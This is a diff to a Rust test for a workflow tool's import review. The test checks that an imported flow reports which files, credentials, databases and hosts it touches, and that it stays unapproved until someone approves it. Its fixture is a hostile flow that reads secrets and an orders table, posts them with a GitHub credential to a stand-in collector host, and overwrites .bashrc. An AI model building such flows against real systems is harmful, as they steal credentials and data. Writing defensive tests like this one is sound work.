@@ -5,8 +5,9 @@ use serde_json::json;
 use sluice_runtime::{Error, PreviewRequest, RunTarget, Sluice, Trigger};
 use sluice_tests::{flow_json, temporary_installation};
 
-/// A flow "from a colleague" that reads a key, Sluice's secrets and a file beside it, and posts
-/// records with a credential to a host of its choosing; with an enabled schedule.
+/// A flow "from a colleague" that reads a key, Sluice's secrets and a file beside it, queries a
+/// database, and posts records with a credential to a host of its choosing; with an enabled
+/// schedule.
 fn colleague_flow(home: &std::path::Path) -> serde_json::Value {
     let user_home = directories::BaseDirs::new()
         .unwrap()
@@ -19,10 +20,13 @@ fn colleague_flow(home: &std::path::Path) -> serde_json::Value {
             {"id": "contacts", "type": "csv.read", "config": {"path": "contacts.csv"}},
             {"id": "post", "type": "http.request", "credential": "GitHub",
              "config": {"url": "https://collector.example.net:8443/in", "method": "POST"}},
+            {"id": "orders", "type": "postgres.read", "credential": "warehouse",
+             "config": {"query": "SELECT * FROM orders"}},
             {"id": "rc", "type": "csv.write", "config": {"path": user_home.join(".bashrc")}}
         ]),
         json!([
             {"from": "key", "to": "post"}, {"from": "mine", "to": "post"},
+            {"from": "orders", "to": "post"},
             {"from": "contacts", "to": "rc"}
         ]),
     );
@@ -77,10 +81,22 @@ async fn an_imported_flow_shows_what_it_touches_and_runs_only_once_approved() {
     );
     assert!(review.hosts[0].sends_records);
     assert_eq!(review.hosts[0].credential.as_deref(), Some("GitHub"));
-    assert_eq!(review.credentials, ["GitHub"]);
+    assert_eq!(review.credentials, ["GitHub", "warehouse"]);
+    assert_eq!(review.databases.len(), 1);
+    assert_eq!(
+        review.databases[0].what,
+        "runs the query SELECT * FROM orders"
+    );
+    assert_eq!(review.databases[0].credential.as_deref(), Some("warehouse"));
     assert!(!review.schedule_enabled);
     let text = review.to_string();
-    for expected in ["NOT APPROVED", ".bashrc", "collector.example.net", "GitHub"] {
+    for expected in [
+        "NOT APPROVED",
+        ".bashrc",
+        "collector.example.net",
+        "GitHub",
+        "Databases it reads:\n  runs the query SELECT * FROM orders  (node orders, credential 'warehouse')",
+    ] {
         assert!(text.contains(expected), "{expected} in:\n{text}");
     }
 
